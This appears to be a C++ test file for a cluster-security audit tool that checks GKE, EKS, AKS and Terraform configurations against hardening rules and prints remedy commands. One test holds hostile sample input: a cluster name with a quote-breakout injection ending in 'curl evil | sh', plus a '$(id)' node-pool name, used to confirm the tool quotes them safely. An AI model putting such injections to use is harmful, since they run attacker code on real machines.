// audit --gke, --eks, --aks, --terraform: whole descriptions, as the providers' commands print
// them.
#include <gtest/gtest.h>

#include <set>

#include "examples.h"
#include "program.h"
#include "tree.h"

namespace seawall::test {
namespace {

constexpr const char* kAt = "2026-12-01T00:00:00Z";

std::string Data(const std::string& name) { return Source() + "/tests/data/managed/" + name; }

Ran Audit(std::vector<std::string> words, const RunOptions& options = {}) {
  words.insert(words.begin(), "audit");
  words.insert(words.end(), {"--at", kAt});
  return Seawall(words, options);
}

/// The findings' remedies by rule, of those that have the verdict.
std::map<std::string, std::string> Remedies(const rapidjson::Document& report,
                                            const std::string& verdict) {
  std::map<std::string, std::string> remedies;
  for (const auto& finding : report["findings"].GetArray()) {
    if (finding["verdict"].GetString() == verdict)
      remedies[finding["rule"].GetString()] = finding["remedy"].GetString();
  }
  return remedies;
}

TEST(Managed, AHardenedClusterOfEachProviderIsClean) {
  for (const std::string provider : {"gke", "eks", "aks"}) {
    Ran run = Audit({"--" + provider, Data(provider + ".json"), "-o", "json"});
    EXPECT_EQ(run.status, 0) << provider << run.err;
    const auto report = Json(run.out);
    EXPECT_EQ(report["nodes"][0]["name"].GetString(), std::string("prod-1"));
    EXPECT_EQ(report["nodes"][0]["components"][0]["component"].GetString(), provider);
    EXPECT_EQ(report["nodes"][0]["components"][0]["runBy"].GetString(), std::string("managed"));
    EXPECT_EQ(report["summary"]["fail"].GetInt(), 0);
    EXPECT_EQ(report["summary"]["unknown"].GetInt(), 0);
    EXPECT_GT(report["summary"]["pass"].GetInt(), 10);
    for (const auto& finding : report["findings"].GetArray()) {
      EXPECT_EQ(finding["component"].GetString(), provider);
      if (finding["verdict"].GetString() != std::string("pass")) continue;
      for (const auto& evidence : finding["evidence"].GetArray()) {
        EXPECT_EQ(evidence["file"].GetString(), Data(provider + ".json"));
        EXPECT_GT(evidence["line"].GetInt(), 0);
        EXPECT_GT(evidence["column"].GetInt(), 0);
      }
    }
  }
}

TEST(Managed, AWeakClusterOfEachProviderFailsWithTheCommandsThatMendIt) {
  const std::map<std::string, std::map<std::string, std::string>> expected = {
      {"gke",
       {{"gke-legacy-authorization-off",
         "gcloud container clusters update old-1 --location us-central1-a --project shop-1 "
         "--no-enable-legacy-authorization"},
        {"gke-node-auto-upgrade",
         "gcloud container node-pools update default-pool --cluster old-1 --location us-central1-a "
         "--project shop-1 --enable-autoupgrade"}}},
      {"eks",
       {{"eks-public-endpoint-off",
         "aws eks update-cluster-config --name old-1 --region us-east-1 --resources-vpc-config "
         "endpointPublicAccess=false,endpointPrivateAccess=true"}}},
      {"aks",
       {{"aks-run-command-off",
         "az aks update --resource-group 'old group' --name old-1 --subscription "
         "33333333-3333-3333-3333-333333333333 --disable-run-command"}}}};
  for (const auto& [provider, commands] : expected) {
    Ran run = Audit({"--" + provider, Data(provider + "-weak.json"), "-o", "json"});
    EXPECT_EQ(run.status, 1) << provider << run.err;
    const auto report = Json(run.out);
    EXPECT_EQ(report["summary"]["unknown"].GetInt(), 0) << provider;
    EXPECT_LE(report["summary"]["pass"].GetInt(), 2) << provider;
    const auto remedies = Remedies(report, "fail");
    EXPECT_GE(remedies.size(), 12u) << provider;
    for (const auto& [rule, command] : commands) EXPECT_EQ(remedies.at(rule), command);
  }
}

TEST(Managed, NoSecretOfADescriptionIsPrinted) {
  for (const char* format :
       {"text", "json", "sarif", "html", "junit", "csv", "metrics", "policyreport", "jsonl"}) {
    Ran run = Audit(
        {"--gke", Data("gke-weak.json"), "--terraform", Data("terraform.tfstate"), "-o", format});
    EXPECT_EQ(run.status, 1) << format << run.err;
    EXPECT_EQ(run.out.find("CANARY"), std::string::npos) << format;
    EXPECT_EQ(run.out.find("Q0FOQVJZ"), std::string::npos) << format;
    EXPECT_NE(run.out.find("gke-legacy-authorization-off"), std::string::npos) << format;
  }
}

TEST(Managed, StandardInputAndEverythingBesideEachOther) {
  Ran run = Audit({"--root", "prod-1=" + Examples::Get().Path("cp-0"), "--gke", "-", "--eks",
                   Data("eks.json"), "--aks", Data("aks.json"), "-o", "json"},
                  {.input = ReadFile(Data("gke.json"))});
  EXPECT_EQ(run.status, 1) << run.err;
  const auto report = Json(run.out);
  std::vector<std::string> names;
  for (const auto& node : report["nodes"].GetArray()) names.emplace_back(node["name"].GetString());
  EXPECT_EQ(names, (std::vector<std::string>{"prod-1", "europe-west1/prod-1", "eu-west-1/prod-1",
                                             "westeurope/prod-1"}));
  run = Audit({"--gke", "-", "--aks", "-"}, {.input = "{}"});
  EXPECT_EQ(run.status, 2);
  EXPECT_NE(run.err.find("more than once"), std::string::npos) << run.err;
}

TEST(Managed, WhatIsNoDescriptionIsAnErrorAndHidesNoOther) {
  Tree tree;
  tree.Write("/cut.json", ReadFile(Data("eks.json")).substr(0, 700));
  tree.Write("/error.json", R"({"error": {"code": "AuthorizationFailed", "message": "no"}})");
  struct Case {
    std::string option, file, says;
  };
  const Case cases[] = {
      {"--gke", Data("aks.json"), "--aks"},
      {"--aks", Data("gke.json"), "--gke"},
      {"--eks", Data("terraform.tfstate"), "--terraform"},
      {"--terraform", Data("gke.json"), "no state and no plan"},
      {"--eks", tree.Path("/cut.json"), "cut.json:"},
      {"--aks", tree.Path("/error.json"), "AuthorizationFailed"},
      {"--aks", tree.Path("/none.json"), "none.json"},
      {"--aks", tree.root() + "/none", "none"},
  };
  for (const Case& one : cases) {
    Ran run = Audit({one.option, one.file});
    EXPECT_EQ(run.status, 2) << one.file;
    EXPECT_EQ(run.out, "") << one.file;
    EXPECT_NE(run.err.find(one.says), std::string::npos) << run.err;
    run = Audit({one.option, one.file, "--gke", Data("gke.json")});
    EXPECT_EQ(run.status, 2) << one.file;
    EXPECT_NE(run.out.find("prod-1"), std::string::npos) << one.file;
  }
}

TEST(Managed, AStateOfTerraformIsJudgedByTheSameRules) {
  Ran run = Audit({"--terraform", Data("terraform.tfstate"), "-o", "json"});
  EXPECT_EQ(run.status, 1) << run.err;
  const auto report = Json(run.out);
  ASSERT_EQ(report["nodes"].Size(), 3u);
  const auto failing = Remedies(report, "fail");
  EXPECT_EQ(
      failing.at("gke-legacy-authorization-off"),
      "in google_container_cluster.primary write enable_legacy_abac = false and run terraform "
      "apply; at once, until then: gcloud container clusters update prod-1 --location "
      "europe-west1 --project shop-1 --no-enable-legacy-authorization");
  for (const char* rule :
       {"gke-authorized-networks", "gke-node-service-account", "gke-node-auto-upgrade",
        "gke-secrets-encryption", "eks-public-access-narrow", "eks-secrets-encryption",
        "eks-access-entries", "aks-local-accounts-off", "aks-run-command-off",
        "aks-secrets-encryption", "aks-node-addresses-private"})
    EXPECT_TRUE(failing.contains(rule)) << rule;
  const auto passing = Remedies(report, "pass");
  for (const char* rule :
       {"gke-shielded-nodes", "gke-basic-authentication-off", "gke-client-certificate-off",
        "gke-kubelet-readonly-port-off", "eks-audit-logs", "eks-version-supported", "aks-rbac",
        "aks-entra-integration", "aks-network-policy"})
    EXPECT_TRUE(passing.contains(rule)) << rule;
  // What the resource does not tell is unknown.
  const auto unknown = Remedies(report, "unknown");
  EXPECT_TRUE(unknown.contains("aks-node-ssh-off"));
  EXPECT_TRUE(unknown.contains("eks-deletion-protection"));
}

TEST(Managed, OfAPlanWhatIsKnownAfterApplyIsNoPass) {
  Ran run = Audit({"--terraform", Data("plan.json"), "-o", "json"});
  EXPECT_EQ(run.status, 1) << run.err;
  const auto report = Json(run.out);
  EXPECT_EQ(VerdictOf(report, "aks-network-policy"), "unknown");
  EXPECT_EQ(VerdictOf(report, "aks-secrets-encryption"), "pass");
  EXPECT_EQ(VerdictOf(report, "aks-local-accounts-off"), "pass");
  EXPECT_EQ(VerdictOf(report, "aks-entra-integration"), "pass");
  EXPECT_EQ(VerdictOf(report, "aks-authorized-ranges"), "pass");
  EXPECT_EQ(VerdictOf(report, "aks-run-command-off"), "fail");
  EXPECT_EQ(Remedies(report, "fail").at("aks-run-command-off"),
            "in azurerm_kubernetes_cluster.k write run_command_enabled = false and run terraform "
            "apply");
}

TEST(Managed, NobodyIsAskedForAVersionThatCannotBeSaid) {
  const char* kPlan =
      R"({"format_version": "1.2", "planned_values": {"root_module": {"resources": [
          {"address": "aws_eks_cluster.e", "mode": "managed", "type": "aws_eks_cluster",
           "name": "e", "values": {"name": "e"}}]}}})";
  const Ran run = Seawall({"audit", "--terraform", "-"}, {.input = kPlan});
  EXPECT_NE(run.out.find("version unknown"), std::string::npos) << run.out;
  EXPECT_EQ(run.out.find("--component-version"), std::string::npos) << run.out;
}

TEST(Managed, HostileNamesAreQuotedAndPrintable) {
  const auto description = [](const std::string& name) {
    return "{\"name\": \"" + name +
           "\", \"location\": \"--flag\", \"legacyAbac\": {\"enabled\": true}, \"nodePools\": "
           "[{\"name\": \"$(id)\"}]}";
  };
  Ran run =
      Audit({"--gke", "-"}, {.input = description("x'; curl evil | sh #\\u001b[31m\\u202e{gke}")});
  EXPECT_EQ(run.status, 1) << run.err;
  EXPECT_EQ(run.out.find('\x1b'), std::string::npos);
  EXPECT_EQ(run.out.find("\xe2\x80\xae"), std::string::npos);
  run = Audit({"--gke", "-", "-o", "json"}, {.input = description("a'b  {gke}")});
  EXPECT_EQ(Remedies(Json(run.out), "fail").at("gke-legacy-authorization-off"),
            "gcloud container clusters update 'a'\\''b  {gke}' --location=--flag "
            "--no-enable-legacy-authorization");
}

TEST(Managed, AStoredReportSaysTheSame) {
  Tree tree;
  const std::vector<std::string> words = {"--gke", Data("gke-weak.json"), "--eks",
                                          Data("eks.json")};
  std::vector<std::string> stored = words;
  stored.insert(stored.end(), {"-o", "json=" + tree.Path("/a.json")});
  EXPECT_EQ(Audit(stored).status, 1);
  EXPECT_EQ(Seawall({"report", tree.Path("/a.json")}).out, Audit(words).out);
}

TEST(Managed, ItsRulesAreListedAndExplained) {
  EXPECT_NE(Seawall({"rules", "--row", "3c"}).out.find("gke-legacy-authorization-off"),
            std::string::npos);
  const Ran run = Seawall({"explain", "gke-legacy-authorization-off"});
  EXPECT_EQ(run.status, 0);
  EXPECT_NE(run.out.find("component  gke"), std::string::npos) << run.out;
  EXPECT_NE(run.out.find("gcloud container clusters update NAME --location LOCATION"),
            std::string::npos)
      << run.out;
}

TEST(Managed, EveryRuleStandsInTheDocumentation) {
  const std::string page = ReadFile(Source() + "/docs/managed.md");
  const auto rules = Json(Seawall({"rules", "-o", "json"}).out);
  size_t managed = 0;
  for (const auto& rule : rules["rules"].GetArray()) {
    const std::string component = rule["component"].GetString();
    if (component != "gke" && component != "eks" && component != "aks") continue;
    ++managed;
    EXPECT_NE(page.find("| `" + std::string(rule["rule"].GetString()) + "` |"), std::string::npos)
        << rule["rule"].GetString();
  }
  EXPECT_GE(managed, 80u);
}

}  // namespace
}  // namespace seawall::test
